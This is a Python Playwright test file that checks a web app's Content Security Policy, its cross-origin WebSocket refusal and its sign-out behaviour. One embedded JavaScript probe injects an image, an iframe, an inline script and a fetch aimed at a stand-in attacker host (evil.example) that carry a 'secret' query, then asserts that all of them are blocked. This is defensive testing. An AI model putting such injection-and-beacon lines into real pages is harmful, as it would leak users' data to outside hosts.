"""The pages in a real browser: their policy breaks nothing of theirs, and lets nothing else in."""

from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.corpus.people import PASSWORD
from tests.corpus.serving import Served, serving, waited

if TYPE_CHECKING:
    from playwright.sync_api import Page

CHROMIUM = Path("/usr/bin/chromium")
playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed: pip install playwright")
pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="There is no Chromium: apt-get install chromium")

FOREIGN = """() => new Promise(done => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', e => {
        seen.push(e.effectiveDirective);
        if (seen.length >= 4) done(seen.sort());
    });
    const add = (kind, given) => document.body.appendChild(Object.assign(document.createElement(kind), given));
    add('img', {src: 'https://evil.example/pixel.png?q=secret'});
    add('script', {textContent: 'window.pwned = 1'});
    add('iframe', {src: 'https://evil.example/'});
    fetch('https://evil.example/?q=secret').catch(() => 0);
})"""
CONNECT = """address => new Promise(done => {
    const socket = new WebSocket(address.replace('http', 'ws') + '/_stcore/stream', ['streamlit']);
    socket.onopen = () => done('open');
    socket.onclose = () => done('closed');
})"""


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serving(tmp_path_factory.mktemp("browsed") / "home") as server:
        yield server


@dataclass(frozen=True, slots=True)
class Visit:
    """Of the first administrator, who came by the forms; what the browser wrote down meanwhile."""

    page: "Page"
    said: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def begin(self, served: Served) -> None:
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.goto(f"{served.address}/answer?id=7")
        self.page.fill("#token", served.token)
        self.page.fill("#name", "ada")
        self.page.fill("#password", PASSWORD)
        self.page.click("button")
        self.wait()

    def wait(self) -> None:
        self.page.wait_for_selector("[data-testid=stApp] h1, [data-testid=stApp] textarea", timeout=60_000)


@pytest.fixture(scope="module")
def visit(served: Served) -> Iterator[Visit]:
    arguments = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=str(CHROMIUM), args=arguments)
        found = Visit(browser.new_page())
        found.begin(served)
        yield found
        browser.close()


def test_t042_the_pages_work_under_their_policy_and_ask_nobody_else(served: Served, visit: Visit) -> None:
    visit.page.goto(served.address)
    visit.wait()
    visit.page.wait_for_load_state("networkidle")
    assert [text for text in visit.said if "Content Security Policy" in text] == []
    own = (served.address, "data:", f"blob:{served.address}")
    assert [url for url in visit.asked if not url.startswith(own)] == []


def test_t042_what_would_be_brought_into_a_page_runs_nothing_and_tells_nobody(visit: Visit) -> None:
    assert visit.page.evaluate(FOREIGN) == ["connect-src", "frame-src", "img-src", "script-src-elem"]
    assert visit.page.evaluate("() => window.pwned") is None


def test_t067_a_page_of_another_origin_connects_to_nothing(served: Served, visit: Visit) -> None:
    assert visit.page.evaluate(CONNECT, served.address) == "open"
    visit.page.goto("data:text/html,<p>somebody else's")
    assert visit.page.evaluate(CONNECT, served.address) == "closed"


def test_t067_the_button_signs_out(served: Served, visit: Visit) -> None:
    visit.page.goto(f"{served.address}/sign-out")
    visit.page.click("button")
    visit.page.goto(served.address)
    assert waited(lambda: "/sign-in" in visit.page.url)
    assert "kb_session" not in {cookie["name"] for cookie in visit.page.context.cookies(served.address)}
